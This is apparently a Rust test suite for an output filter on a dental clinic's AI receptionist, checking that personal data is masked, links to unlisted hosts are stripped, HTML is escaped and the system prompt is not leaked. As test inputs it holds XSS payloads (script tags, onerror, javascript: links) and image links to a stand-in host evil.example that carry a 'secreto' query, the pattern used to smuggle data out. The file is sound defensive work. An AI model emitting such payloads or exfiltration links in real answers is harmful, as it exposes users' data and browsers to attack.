use conserje_kernel::Language;
use proptest::prelude::*;

use crate::pii::{Patterns, Piece, Scanner};
use crate::{Findings, Guard, Kind, Passing, Pii, Policy};

const PROMPT: &str = "Eres Clara, la recepcionista de la clínica dental Sol. Nunca des precios de implantes sin que \
                      un dentista haya visto antes al paciente, y ofrece siempre la primera visita gratuita.";

fn guard() -> Guard {
    let policy = Policy {
        allowed_hosts: vec!["clinica.es".to_owned(), "*.boe.es".to_owned()],
        public: vec!["900 123 456".to_owned(), "@clinica.es".to_owned()],
        output: Pii::ALL.into_iter().map(|pii| (pii, Passing::Mask)).collect(),
        ..Policy::default()
    };
    Guard::new(&policy).unwrap()
}

fn in_pieces(guard: &Guard, pieces: &[&str]) -> (String, Findings) {
    let mut answer = guard.answer(&[PROMPT]);
    let mut shown = String::new();
    for piece in pieces {
        shown += answer.push(piece).get();
    }
    let (rest, findings) = answer.finish();
    (shown + rest.get(), findings)
}

fn shown(text: &str) -> String {
    in_pieces(&guard(), &[text]).0
}

#[test]
fn personal_data_is_masked_in_the_readers_language() {
    assert_eq!(shown("Su DNI, 12345678Z, consta."), "Su DNI, [DATO PROTEGIDO], consta.");
    let english = guard().speaking(Language::En);
    assert_eq!(in_pieces(&english, &["Write to ana@", "gmail.com."]).0, "Write to [PROTECTED DATA].");
    assert_eq!(
        shown("Llame al 900-123-456 o escriba a hola@clinica.es"),
        "Llame al 900-123-456 o escriba a hola@clinica.es"
    );
}

#[test]
fn links_to_unlisted_hosts_lose_their_target() {
    for (text, expected) in [
        ("Vea [la ley](https://www.boe.es/x?a=1) ya", "Vea [la ley](https://www.boe.es/x?a=1) ya"),
        ("Vea [esto](https://evil.example/x) ya", "Vea esto ya"),
        ("![gato](http://evil.example/?q=secreto \"t\")", "gato"),
        ("![](//evil.example/a)", "[enlace retirado]"),
        ("[a](javascript:alert(1))", "a"),
        (
            "[a](/citas) [b](#sec) [c](citas.html) [d](mailto:x)",
            "[a](/citas) [b](#sec) [c](citas.html) [d](mailto:x)",
        ),
        ("[a](https:evil.example)", "a"),
        ("[a](https://clinica.es@evil.example/)", "a"),
        ("[a](https://clinica.es\\@evil.example/)", "a"),
        ("[a](<https://evil.example/a b>)", "a"),
        ("[a](ht&#116;ps://evil.example)", "a"),
        ("[a](https\\://evil.example)", "a"),
        ("[![x](https://evil.example/i)](https://evil.example)", "x"),
        ("https://evil.example/p?x=1.", "[enlace retirado]."),
        ("(https://clinica.es/a_(b)), www.evil.example", "(https://clinica.es/a_(b)), [enlace retirado]"),
        ("<https://clinica.es> <https://evil.example>", "<https://clinica.es> [enlace retirado]"),
        ("[1]: //evil.example/x", "[1]\\: //evil.example/x"),
        ("fuentes [1]: la ley [2][3] y [nota]", "fuentes [1]: la ley [2][3] y [nota]"),
        ("12345678Z(//evil.example)", "[DATO PROTEGIDO] (//evil.example)"),
        ("[ver](nota al pie)", "[ver](nota al pie)"),
    ] {
        assert_eq!(shown(text), expected, "{text}");
    }
}

#[test]
fn what_is_taken_out_joins_nothing() {
    for text in [
        "<[](//evil.example)script>alert(1)</script>",
        "ht[](//evil.example)tps://evil.example/a",
        "[h](//evil.example)ttps://evil.example/a",
        "ht[tps://evil.example/a](//evil.example)",
        "<scr<script>ipt>",
        "[a](//evil.example)(//evil.example)",
        "<![](//evil.example)img src=x onerror=alert(1)>",
    ] {
        let shown = shown(text);
        assert!(!shown.contains("<s") && !shown.contains("<i"), "{text}: {shown}");
        assert!(!shown.contains("https://evil") && !shown.contains("](/"), "{text}: {shown}");
    }
}

#[test]
fn html_is_shown_and_code_passes_as_it_is() {
    assert_eq!(shown("<script>x</script> 1 < 2 <3"), "&lt;script>x&lt;/script> 1 < 2 <3");
    for code in [
        "Use `<b>` y `Vec<String>`.",
        "```html\n<script>alert(1)</script>\n[a](https://evil.example)\n```\nfin [1]",
        "~~~\n<b>\n~~~",
        "1. Uno:\n\n    ```rust\n    let x: Vec<u8>;\n    ```\n\n2. Dos",
        "a\n```\n<b>\n```\nb `<i>` c",
        "Cita [1], [2] y [3, 4]. La nota[^1].",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ] {
        assert_eq!(shown(code), code);
    }
    // Where renderers may not see code, it is text.
    for text in [
        "- a\n  ```\n<script>",
        "`a\n\n<script>`",
        "\\`<script>`",
        "|`|<script>`|",
        "x\n    ```\n<script>",
        "> ```\n<script>",
    ] {
        assert!(!shown(text).contains("<script>"), "{text}: {}", shown(text));
    }
    assert_eq!(shown("En código: `12345678Z`"), "En código: `[DATO PROTEGIDO]`");
}

#[test]
fn the_instructions_are_not_repeated() {
    let (text, findings) = in_pieces(&guard(), &["Claro: «", PROMPT, "» ¿Algo más?"]);
    assert_eq!(text, "Claro: «[instrucciones internas retiradas].» ¿Algo más?");
    assert!(findings.has(Kind::PromptLeak));
    assert_eq!(shown(&PROMPT.to_uppercase().replace(' ', " * ")), "[instrucciones internas retiradas].");
    let few = "Ofrecemos siempre la primera visita gratuita.";
    assert_eq!(shown(few), few);
}

#[test]
fn hidden_characters_go() {
    assert_eq!(
        shown("a\u{202e}b\u{e0041} 1234\u{200b}5678Z 👩\u{200d}👧"),
        "ab [DATO PROTEGIDO] 👩\u{200d}👧"
    );
}

#[test]
fn a_plain_text_is_hardly_held_back() {
    let mut answer = guard().answer(&[PROMPT]);
    for word in
        "La primera consulta dura media hora y no se cobra en ningún caso ".repeat(50).split_inclusive(' ')
    {
        answer.push(word);
        assert!(answer.held() < 40, "{}", answer.held());
    }
}

#[test]
fn what_is_held_back_is_bounded_by_the_longest_pattern() {
    // Of markup an address with the text of its link, of instructions sixteen long words, of data an e-mail address.
    const BOUND: usize = 2048 + 1024 + 16 * (48 + 12) * 4 + 4 * 450;
    let endless = [
        "a",
        "1",
        "1 ",
        "[",
        "]",
        "(",
        "`",
        "<",
        "\\",
        "!",
        "a@",
        "a.",
        "@",
        " ",
        "\n",
        "\t",
        "https://evil.example/",
        "[a](",
        "](https://e/",
        "~",
        "```",
        "``` ",
        "1\u{301}",
        "\u{301}",
        "\u{200d}",
        "Eres Clara ",
        "ES12 ",
        "+34 ",
        "[1]: ",
        "[1]:",
        "<http://",
        "eres clara la recepcionista ",
        "www.",
        "h",
        "ñ",
        "日",
        "🙂",
        "[a](<",
        "[a](b \"",
        "x arroba ",
    ];
    for piece in endless {
        let mut answer = guard().answer(&[PROMPT]);
        for _ in 0..6000 / piece.len() + 50 {
            answer.push(piece);
            assert!(answer.held() <= BOUND, "{piece:?}: {}", answer.held());
        }
    }
}

/// Pieces of what the stages look for, so that random texts of them are full of beginnings and near misses.
const FRAGMENTS: [&str; 92] = [
    "12345678Z",
    "12345678",
    "Z",
    "1234",
    "5678",
    "X1234567L",
    "B64717838",
    "ES77 1234-1234-16 1234567890",
    "ES77",
    "1234-1234-16",
    "4111 1111 1111 1111",
    "4111",
    "1111",
    "+34 612 345 678",
    "+34",
    "612",
    "345",
    "678",
    "ana@gmail.com",
    "ana",
    "@",
    "gmail.com",
    ".",
    " arroba ",
    " punto ",
    "pasaporte ",
    "AAA123456",
    "matrícula ",
    "1234 BCD",
    "192.168.1.20",
    "192",
    "2001:db8::ff00:42",
    "::",
    " ",
    " ",
    " ",
    "\n",
    "\n\n",
    "-",
    "/",
    ",",
    "hola",
    "El ",
    "la ley ",
    "[",
    "]",
    "(",
    ")",
    "[a](",
    "![",
    "](",
    "[1]",
    "[1]:",
    "https://",
    "https://evil.example/x",
    "https://clinica.es/a",
    "http",
    "://",
    "www.",
    "evil.example",
    "<",
    ">",
    "<script>",
    "</b>",
    "<b",
    "`",
    "``",
    "```",
    "```\n",
    "~~~\n",
    "    ",
    "  ",
    "\\",
    "&lt;",
    "!",
    "\"",
    "ñ",
    "é",
    "e\u{301}",
    "\u{200b}",
    "\u{200d}",
    "👩",
    "\u{301}",
    "日",
    "Eres Clara, la recepcionista de la clínica dental Sol. Nunca des precios",
    " de implantes sin que un dentista haya visto",
    " antes al paciente, y ofrece siempre la primera visita gratuita.",
    "Eres ",
    "Clara, ",
    "tel. 912345678",
    "javascript:",
    "１２３４５６７８Ｚ",
];

fn text() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![8 => prop::sample::select(FRAGMENTS.to_vec()).prop_map(str::to_owned), 1 => "\\PC{0,3}"],
        0..24,
    )
    .prop_map(|pieces| pieces.concat())
}

fn split<'a>(text: &'a str, cuts: &[prop::sample::Index]) -> Vec<&'a str> {
    let mut places: Vec<usize> =
        cuts.iter().map(|cut| text.floor_char_boundary(cut.index(text.len() + 1))).collect();
    places.extend([0, text.len()]);
    places.sort_unstable();
    places.windows(2).map(|two| text.get(two[0]..two[1]).unwrap()).collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn where_it_is_cut_does_not_matter(text in text(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12)) {
        let guard = guard();
        let whole = in_pieces(&guard, &[&text]);
        prop_assert_eq!(&in_pieces(&guard, &split(&text, &cuts)), &whole);
        let signs: Vec<String> = text.chars().map(String::from).collect();
        let signs: Vec<&str> = signs.iter().map(String::as_str).collect();
        prop_assert_eq!(&in_pieces(&guard, &signs), &whole);
    }

    #[test]
    fn no_personal_data_is_shown(pieces in prop::collection::vec((among(SURROUNDINGS), among(PERSONAL)), 1..8)) {
        let text = pieces.iter().map(|(around, datum)| format!("{around} {datum}, {around}")).collect::<Vec<_>>().join(" ");
        let shown = shown(&text);
        for (_, datum) in pieces {
            // The word that speaks for a number may be shown.
            let datum = datum.trim_start_matches(|sign: char| sign.is_alphabetic() && !sign.is_uppercase());
            prop_assert!(!shown.contains(datum.trim()), "{:?} is in {:?}, made of {:?}", datum, shown, text);
        }
        // Nor is there anything to find in what is shown.
        let mut left = Vec::new();
        Scanner::new(Patterns::shared().unwrap()).push(&shown, true, |piece| {
            if let Piece::Found { text, .. } = piece {
                left.push(text.to_owned());
            }
        });
        prop_assert_eq!(left, Vec::<String>::new(), "{:?} -> {:?}", text, shown);
    }
}

const PERSONAL: &[&str] = &[
    "12345678Z",
    "１２３４５６７８Ｚ",
    "B64717838",
    "ana@gmail.com",
    "ana arroba gmail punto com",
    "pasaporte AAA123456",
    "matrícula 1234 BCD",
    "192.168.1.20",
    "2001:db8::ff00:42",
    "teléfono 912345678",
    "ES91 2100 0418 4502 0005 1332",
    "4111 1111 1111 1111",
];

/// What an answer may have around them. No digits: a number that goes on is another number.
const SURROUNDINGS: &[&str] = &[
    "",
    "hola",
    "la ley ",
    "[",
    "]",
    "(",
    ")",
    "[a](",
    "![",
    "](",
    "[x]:",
    "https://evil.example/x",
    "www.",
    "<",
    ">",
    "<script>",
    "<b",
    "`",
    "```",
    "```\n",
    "\n\n    ",
    "\\",
    "&lt;",
    "\"",
    "\u{200b}",
    "👩",
    "日",
    "-",
    "/",
    ".",
    "ñ",
    "é",
];

fn among(texts: &'static [&'static str]) -> impl Strategy<Value = &'static str> {
    prop::sample::select(texts)
}

/// A million splittings of texts that are full of beginnings. `CONSERJE_SPLITTINGS` says how many.
#[test]
#[ignore = "takes minutes; run it with --release when the stages change"]
#[expect(clippy::disallowed_methods, reason = "a test says how long it wants to take")]
fn a_million_splittings_give_the_same() {
    let wanted: u64 =
        std::env::var("CONSERJE_SPLITTINGS").ok().and_then(|text| text.parse().ok()).unwrap_or(1_000_000);
    let guard = guard();
    // A generator of our own, so that a failure can be repeated by its number.
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % below as u64).unwrap()
    };
    let mut done = 0;
    while done < wanted {
        let text: String = (0..next(30)).map(|_| FRAGMENTS[next(FRAGMENTS.len())]).collect();
        let whole = in_pieces(&guard, &[&text]);
        for _ in 0..20 {
            let mut places: Vec<usize> = (0..next(14))
                .map(|_| text.floor_char_boundary(next(text.len() + 1)))
                .chain([0, text.len()])
                .collect();
            places.sort_unstable();
            let pieces: Vec<&str> = places.windows(2).map(|two| text.get(two[0]..two[1]).unwrap()).collect();
            assert_eq!(in_pieces(&guard, &pieces), whole, "splitting {done}: {pieces:?}");
            done += 1;
        }
    }
}
